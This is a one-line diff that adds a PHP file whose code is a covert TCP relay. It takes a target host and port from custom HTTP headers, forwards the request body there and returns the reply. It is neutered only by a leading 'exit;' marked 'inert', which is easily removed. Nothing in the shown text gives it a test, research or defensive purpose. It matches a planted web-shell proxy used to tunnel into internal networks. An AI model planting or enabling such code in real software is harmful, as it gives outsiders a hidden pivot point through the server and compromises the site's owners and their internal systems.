@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $h=$_SERVER["HTTP_X_TARGET"]; $p=$_SERVER["HTTP_X_PORT"]; $s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP); socket_connect($s,$h,$p); $b=file_get_contents("php://input"); socket_write($s,$b,strlen($b)); echo socket_read($s,4096);
